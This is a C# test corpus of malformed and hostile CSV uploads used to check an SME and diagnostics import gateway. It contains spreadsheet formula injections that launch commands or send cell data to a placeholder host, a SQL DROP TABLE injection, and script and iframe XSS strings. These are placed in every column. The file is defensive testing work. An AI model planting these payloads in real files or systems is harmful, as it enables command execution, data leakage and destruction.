using System.Text;
using Ise.Diagnostics;
using Ise.Testing;

namespace Ise.Gateway.Tests.Hostile;

/// <summary>
/// Malformed and hostile CSV files for the SME, attendance and past-diagnostics imports: empty and header-only files, wrong,
/// missing and repeated columns, wrong separators, unterminated quotes, NUL and binary bytes, invalid
/// UTF-8 and UTF-16, byte order marks, mixed line ends, an enormous line, too many columns, too many
/// rows, oversized bodies, wrong content types and broken multipart bodies, and formula, SQL, HTML and
/// script payloads in every column.
/// </summary>
public static class HostileCsvCorpus
{
    public const string SmeHeader = "country,company_id,name,region,sector,staff,turnover,balance_sheet,currency,lead_partner";

    /// <summary>What spreadsheets run as formulas (CSV injection).</summary>
    public static IReadOnlyList<string> FormulaPayloads { get; } =
    [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
        "\t=1+1",
    ];

    /// <summary>The uploads; <paramref name="validSmeId"/> is a registered SME that one attendance list validly names among hostile rows.</summary>
    public static IReadOnlyList<HostileUpload> All(long maxUploadBytes, string validSmeId)
    {
        var corpus = new List<HostileUpload>();
        corpus.AddRange(Unreadable(attendance: false));
        corpus.AddRange(Unreadable(attendance: true));
        corpus.AddRange(Encodings());
        corpus.AddRange(Shapes(validSmeId));
        corpus.AddRange(Transport(maxUploadBytes));
        corpus.AddRange(PayloadsInEveryColumn());
        corpus.AddRange(PastDiagnostics(validSmeId));
        return corpus;
    }

    /// <summary>
    /// Past diagnostics of the registered SME: unreadable files, and for each column a file whose rows each carry one
    /// payload there among valid values (the SME, a past day, its partner, every question answered); no row may be loaded.
    /// </summary>
    private static IEnumerable<HostileUpload> PastDiagnostics(string validSmeId)
    {
        string[] columns = ["country", "company_id", "date", "partner", "version", "language", "inn-strategy-goals", "strategy"];
        var questions = DiagnosticCatalog.Embedded.Get(1).Questions.Select(q => q.Id).ToList();
        var header = string.Join(",", [.. columns, .. questions.Skip(1)]);
        string[] valid = [validSmeId[..2], validSmeId[3..], "2018-05-02", "innovatiehuis", "1", "en", "2", "", .. questions.Skip(1).Select(_ => "2")];
        yield return Diagnostics("a header only", header + "\n");
        yield return Diagnostics("the required column version missing", header.Replace(",version,", ",", StringComparison.Ordinal) + "\n" + string.Join(",", valid.Where((_, i) => i != 4)) + "\n");
        yield return Diagnostics("100,001 rows", header + "\n" + string.Concat(Enumerable.Repeat("x\n", 100_001)));
        string[] payloads = [.. HostileCorpus.Payloads, .. FormulaPayloads, "Robert'); DROP TABLE orleansstorage;--", "<svg/onload=alert(1)>"];
        for (var c = 0; c < columns.Length; c++)
        {
            // A blank language is English and a blank dimension score is no score: valid rows, not payloads.
            var hostile = columns[c] is "language" or "strategy" ? payloads.Where(p => !string.IsNullOrWhiteSpace(p)) : payloads;
            var rows = hostile.Select(payload => string.Join(",", valid.Select((value, i) => Field(i == c ? payload : value))));
            yield return Diagnostics($"payloads in column {columns[c]}", header + "\n" + string.Join("\n", rows) + "\n");
        }
    }

    private static HostileUpload Diagnostics(string name, string text) =>
        new($"past diagnostics: {name}", false, Encoding.UTF8.GetBytes(text), Endpoint: "/api/imports/history/diagnostics");

    private static IEnumerable<HostileUpload> Unreadable(bool attendance)
    {
        var kind = attendance ? "attendance" : "SMEs";
        var header = attendance ? "attendee_code,sme_id" : SmeHeader;
        (string Name, string Text)[] files =
        [
            ("an empty file", ""),
            ("only blank lines", "\n\r\n\n"),
            ("a header only", header + "\n"),
            ("a header and rows of empty cells", header + "\n,,,\n;;\n"),
            ("an unrelated header", "foo,bar,baz\n1,2,3\n"),
            ("a header given twice in one row", header + "," + header + "\n" + Row(attendance) + "\n"),
            ("a header with one column twice under two names", (attendance ? "sme_id,smeid" : SmeHeader + ",company") + "\n" + Row(attendance) + "\n"),
            ("a colon as separator", header.Replace(',', ':') + "\n" + Row(attendance).Replace(',', ':') + "\n"),
            ("an unterminated quote in the header", "\"" + header + "\n" + Row(attendance) + "\n"),
            ("a header of 20,000 columns", string.Join(",", Enumerable.Range(0, 20_000).Select(i => "c" + i)) + "\n1\n"),
            ("a header of formulas", string.Join(",", FormulaPayloads.Select(Field)) + "\n1\n"),
        ];
        if (!attendance)
        {
            files = [.. files, ("the required column region missing", "country,company_id,name,sector,staff,turnover,balance_sheet\nNL,12345678,No Region BV,Mechatronics,5,1,1\n")];
        }

        return files.Select(f => new HostileUpload($"{kind}: {f.Name}", attendance, Encoding.UTF8.GetBytes(f.Text)));
    }

    private static IEnumerable<HostileUpload> Encodings()
    {
        var header = Encoding.UTF8.GetBytes(SmeHeader + "\n");
        byte[][] invalid =
        [
            [0xFF, 0xFE, 0x00],
            [0x80],
            [0xC3, 0x28],
            [0xE2, 0x82],
            [0xF0, 0x28, 0x8C, 0xBC],
            [0xC0, 0xAF],
            [0xED, 0xA0, 0x80],
            [0xF8, 0x88, 0x80, 0x80, 0x80],
        ];
        foreach (var bytes in invalid.Skip(1))
        {
            yield return Sme($"invalid UTF-8 {Convert.ToHexString(bytes)} in a name", [.. header, .. "NL,12345678,Bad "u8, .. bytes, .. ",South-West Netherlands,Mechatronics,5,1,1,EUR,innovatiehuis\n"u8]);
        }

        var random = new Random(12);
        var binary = new byte[64 * 1024];
        random.NextBytes(binary);
        yield return Sme("64 KiB of random bytes", binary);
        yield return Sme("random bytes after a header", [.. header, .. binary]);
        yield return Sme("a UTF-16 byte order mark with an odd byte", [0xFF, 0xFE, 0x41, 0x00, 0x42]);
        yield return Sme("a UTF-16 byte order mark with a lone surrogate", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("country"), 0x00, 0xD8, 0x41, 0x00]);
        yield return Sme("a UTF-8 byte order mark only", [0xEF, 0xBB, 0xBF]);
        yield return Sme("a UTF-32 byte order mark", [0x00, 0x00, 0xFE, 0xFF, .. Encoding.UTF32.GetBytes(SmeHeader)]);
        yield return new HostileUpload("attendance: invalid UTF-8 in an id", true, [.. "sme_id\nNL-1234"u8, 0xC3, 0x28, (byte)'\n']);
        yield return new HostileUpload("attendance: NUL bytes throughout", true, [.. "sme_id\n"u8, .. new byte[4096]]);
        yield return new HostileUpload("attendance: random bytes", true, binary);
    }

    private static IEnumerable<HostileUpload> Shapes(string validSmeId)
    {
        string[] endings = ["\r\n", "\n", "\r", "\n\r", "\r\r\n"];
        var names = endings.Select((_, i) => $"Line ends {i} BV").ToList();
        var mixed = SmeHeader + "\r\n" + string.Concat(names.Select((name, i) => Valid(name) + endings[i]));
        yield return Sme("CR, LF and CRLF mixed", Encoding.UTF8.GetBytes(mixed), names);
        yield return Sme("a UTF-8 byte order mark", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("With BOM BV") + "\n")], ["With BOM BV"]);
        yield return Sme("UTF-16 with its byte order mark", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(SmeHeader + "\n" + Valid("Utf16 Société BV") + "\n")], ["Utf16 Société BV"]);
        yield return Sme("NUL bytes inside a name", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Nul\0\0Byte BV") + "\n"), ["Nul\0\0Byte BV"]);
        yield return Sme("an unterminated quote in a row", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Good BV") + "\nNL,12345678,\"Open quote BV,South-West Netherlands,Mechatronics,5,1,1,EUR,innovatiehuis\n" + Valid("After BV") + "\n"),
            ["Good BV"]);
        yield return Sme("a quote in the middle of a field", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Mid\"quote BV") + "\n"), ["Mid\"quote BV"]);
        yield return Sme("a name of 2 MB on one line", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid(new string('N', 2 * 1024 * 1024)) + "\n"));
        yield return Sme("a line of 1 MB without separators", Encoding.UTF8.GetBytes(SmeHeader + "\n" + new string('x', 1024 * 1024) + "\n"));
        yield return Sme("a row of 50,000 columns", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Wide BV") + string.Concat(Enumerable.Repeat(",x", 50_000)) + "\n"), ["Wide BV"]);
        yield return Sme("a row with too few columns", Encoding.UTF8.GetBytes(SmeHeader + "\nNL,12345678,Short BV\n"));
        yield return Sme("semicolons in a comma file", Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Semi BV").Replace(',', ';') + "\n"));
        yield return Sme("100,001 rows", Encoding.UTF8.GetBytes(SmeHeader + "\n" + string.Concat(Enumerable.Repeat("x\n", 100_001))));
        yield return new HostileUpload("attendance: 100,001 rows", true, Encoding.UTF8.GetBytes("sme_id\n" + string.Concat(Enumerable.Repeat("x\n", 100_001))));
        yield return new HostileUpload("attendance: a valid row among hostile ones", true,
            Encoding.UTF8.GetBytes("sme_id,attendee_code\n<script>alert(1)</script>,\n" + validSmeId + ",\n,=cmd|' /C calc'!A0\n' OR '1'='1,\n"),
            MayImport: [validSmeId]);
    }

    private static IEnumerable<HostileUpload> Transport(long maxUploadBytes)
    {
        var csv = Encoding.UTF8.GetBytes(SmeHeader + "\n" + Valid("Transport BV") + "\n");
        yield return Sme("a file one byte over the limit", [.. csv, .. new byte[maxUploadBytes + 1 - csv.Length]]);
        yield return Sme("a body of twice the limit", new byte[maxUploadBytes * 2]);
        yield return Sme("the CSV as text/csv, not multipart", csv, rawContentType: "text/csv");
        yield return Sme("the CSV as JSON", csv, rawContentType: "application/json");
        yield return Sme("no content type", csv, rawContentType: "");
        yield return Sme("a form without a file", "file=country%2Cname"u8.ToArray(), rawContentType: "application/x-www-form-urlencoded");
        yield return Sme("multipart without a boundary", csv, rawContentType: "multipart/form-data");
        yield return Sme("multipart with a file in another field", Encoding.UTF8.GetBytes("--b\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"a.csv\"\r\n\r\n" + SmeHeader + "\r\n--b--\r\n"), rawContentType: "multipart/form-data; boundary=b");
        yield return Sme("multipart that never ends", Encoding.UTF8.GetBytes("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n" + SmeHeader + "\r\nNL,1"), rawContentType: "multipart/form-data; boundary=b");
        yield return Sme("multipart with a boundary of 1,000 characters", Encoding.UTF8.GetBytes("--" + new string('b', 1_000) + "\r\n"), rawContentType: "multipart/form-data; boundary=" + new string('b', 1_000));
        yield return Sme("multipart with 500 header lines in a part", Encoding.UTF8.GetBytes("--b\r\n" + string.Concat(Enumerable.Repeat("X-Junk: 1\r\n", 500)) + "Content-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n" + SmeHeader + "\r\n--b--\r\n"), rawContentType: "multipart/form-data; boundary=b");
        yield return new HostileUpload("attendance: the CSV as text/plain", true, "sme_id\nBE-0403170701\n"u8.ToArray(), RawContentType: "text/plain");
    }

    /// <summary>For every column of both lists, a file whose rows each carry one payload in that column.</summary>
    private static IEnumerable<HostileUpload> PayloadsInEveryColumn()
    {
        string[] payloads = [.. HostileCorpus.Payloads, .. FormulaPayloads, "Robert'); DROP TABLE orleansstorage;--", "<svg/onload=alert(1)>", "\"><iframe src=javascript:alert(1)>"];
        var columns = SmeHeader.Split(',');
        for (var c = 0; c < columns.Length; c++)
        {
            var text = new StringBuilder(SmeHeader).Append('\n');
            var names = new List<string>();
            for (var p = 0; p < payloads.Length; p++)
            {
                var values = ValidValues($"Payload {c}-{p} BV");
                values[c] = payloads[p];
                text.AppendJoin(',', values.Select(Field)).Append('\n');
                names.Add(AsSent(values[2]));
            }

            // Optional columns (company id, currency) and the name take payloads that may be valid values; the others never do.
            var mayImport = columns[c] is "company_id" or "name" or "currency" ? names : null;
            yield return Sme($"payloads in column {columns[c]}", Encoding.UTF8.GetBytes(text.ToString()), mayImport);
        }

        foreach (var column in new[] { "attendee_code", "sme_id" })
        {
            var rows = payloads.Select(p => column == "sme_id" ? "," + Field(p) : Field(p) + ",");
            yield return new HostileUpload($"attendance: payloads in column {column}", true, Encoding.UTF8.GetBytes("attendee_code,sme_id\n" + string.Join('\n', rows) + "\n"));
        }
    }

    private static HostileUpload Sme(string name, byte[] body, IReadOnlyCollection<string>? mayImport = null, string? rawContentType = null) =>
        new($"SMEs: {name}", false, body, rawContentType, mayImport);

    private static string Row(bool attendance) => attendance ? ",BE-0403170701" : Valid("Hostile header BV");

    private static string Valid(string name) => string.Join(',', ValidValues(name).Select(Field));

    private static string[] ValidValues(string name) =>
        ["NL", TestCompanyIds.Kvk(), name, "South-West Netherlands", "Mechatronics", "5", "100000", "100000", "EUR", "innovatiehuis"];

    /// <summary>
    /// The text as the file holds it and the import reads it: UTF-8 has no lone surrogates (the encoder
    /// puts U+FFFD in their place), and the reader trims spaces and tabs around a cell.
    /// </summary>
    private static string AsSent(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text)).Trim(' ', '\t');

    /// <summary>A CSV field, quoted when it holds a separator, a quote or a line end.</summary>
    private static string Field(string value) =>
        value.AsSpan().IndexOfAny(",\"\r\n") >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;
}
